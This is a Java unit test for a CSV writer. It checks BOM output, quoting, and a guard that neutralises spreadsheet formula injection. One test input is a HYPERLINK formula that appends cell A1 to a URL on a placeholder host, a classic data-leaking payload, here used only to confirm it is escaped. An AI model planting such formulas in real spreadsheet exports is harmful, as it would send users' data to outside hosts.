package app.kiroku.shared.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void quotesCommasQuotesAndLineBreaksAndStartsWithABom() {
        var out = new ByteArrayOutputStream();
        try (var csv = new CsvWriter(out)) {
            csv.row(List.of("顧客名", "内容"));
            csv.row(Arrays.asList("山田, 太郎", "1行目\n2行目 \"重要\""));
            csv.row(Arrays.asList("空欄", null));
        }
        byte[] bytes = out.toByteArray();
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(bytes, StandardCharsets.UTF_8))
                .isEqualTo("\uFEFF顧客名,内容\r\n" + "\"山田, 太郎\",\"1行目\n2行目 \"\"重要\"\"\"\r\n" + "空欄,\r\n");
    }

    @Test
    void textThatExcelWouldRunAsAFormulaBecomesPlainText() {
        var out = new ByteArrayOutputStream();
        try (var csv = new CsvWriter(out)) {
            csv.row(Arrays.asList("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\uFF1D1+1"));
            csv.row(Arrays.asList("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", -5, "山田=太郎", ""));
        }
        assertThat(new String(out.toByteArray(), StandardCharsets.UTF_8))
                .isEqualTo("\uFEFF"
                        + "'=1+1,'+81 3 1234,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",'\uFF1D1+1\r\n"
                        + "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",-5,山田=太郎,\r\n");
    }

    @Test
    void aGuardedCellReadsBackAsWhatWasWritten() {
        for (String text : List.of("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\uFF1D1+1")) {
            assertThat(CsvWriter.unguarded(CsvWriter.quote(text))).isEqualTo(text);
        }
        assertThat(CsvWriter.unguarded("'quoted'"))
                .as("an apostrophe before plain text stays")
                .isEqualTo("'quoted'");
        assertThat(CsvWriter.unguarded("'")).isEqualTo("'");
    }
}
